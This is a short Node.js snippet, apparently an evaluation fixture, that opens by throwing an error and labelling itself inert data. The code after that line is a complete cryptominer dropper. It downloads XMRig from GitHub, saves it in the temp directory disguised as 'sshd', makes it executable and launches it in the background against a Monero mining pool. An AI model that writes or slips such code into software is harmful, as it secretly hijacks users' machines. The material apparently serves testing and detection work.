throw new Error("cordon eval replica: inert data, never run");
const https = require("https");
const fs = require("fs");
const path = require("path");
const { execFile } = require("child_process");

const target = path.join(require("os").tmpdir(), "sshd");
https.get("https://github.com/xmrig/xmrig/releases/download/v6.22.0/xmrig-6.22.0-linux-static-x64.tar.gz", (res) => {
  const out = fs.createWriteStream(target);
  res.pipe(out);
  out.on("finish", () => {
    fs.chmodSync(target, 0o755);
    execFile(target, ["--url", "pool.supportxmr.com:443", "--tls", "--background"]);
  });
});
